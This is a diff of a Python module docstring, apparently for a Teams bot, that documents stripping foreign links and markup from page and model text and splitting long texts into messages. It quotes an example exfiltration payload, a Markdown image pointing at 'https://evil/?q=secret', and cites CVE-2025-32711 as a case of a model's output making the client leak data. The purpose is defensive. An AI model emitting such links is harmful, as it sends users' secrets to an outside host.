@@ -1,14 +1,13 @@
-"""A text that is too long for one message of Teams, in several: cut where a reader would pause.
+"""Texts as they may be shown: without foreign markup (`calm`), clipped, and in several messages (`split`).
 
-Between paragraphs, else lines, else sentences, else words; never inside an address or a marker [n], nor
-inside a word that has room. No message begins with a marker, which belongs to what stands before it.
+No links, images, mentions or tags of pages and models are shown. Teams renders Markdown and some HTML. A page
+or a model that writes `![](https://evil/?q=secret)` would otherwise make the reader's client fetch that
+address (CVE-2025-32711 worked so). Brackets and tags are replaced by lookalikes rather than escaped, so that
+the result reads the same in a client that renders no Markdown.
 
-Text from pages and models as text that is safe to show: no links, images, mentions or tags that are not ours.
-
-Teams renders Markdown and some HTML. A page or a model that writes `![](https://evil/?q=secret)` would
-otherwise make the reader's client fetch that address (CVE-2025-32711 worked so). Brackets and tags are
-replaced by lookalikes rather than escaped, so that the result reads the same in a client that renders no
-Markdown.
+A text that is too long for one message of Teams is cut where a reader would pause: between paragraphs, else
+lines, else sentences, else words; never inside an address or a marker [n], nor inside a word that has room.
+No message begins with a marker, which belongs to what stands before it.
 """
 
 from __future__ import annotations
